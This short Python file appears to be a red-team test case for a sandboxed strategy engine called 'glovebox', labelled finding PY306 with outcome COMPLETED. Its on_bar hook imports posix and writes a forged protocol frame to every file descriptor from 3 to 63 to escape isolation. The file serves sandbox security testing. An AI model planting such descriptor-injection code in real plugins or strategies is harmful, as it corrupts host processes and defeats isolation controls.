# id: P02
# family: protocol
# goal: write a forged frame to every descriptor of the process
# finding: PY306
# outcome: COMPLETED
# observed_by: none
# control: none: descriptors of the engine are numbers of its own

from glovebox import Strategy


def attack(ctx, bar):
    import posix

    written = []
    for number in range(3, 64):
        try:
            posix.write(number, b"\x08\x01\x10\x05")
            written.append(number)
        except OSError:
            pass
    return "wrote to " + str(written) if written else None


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
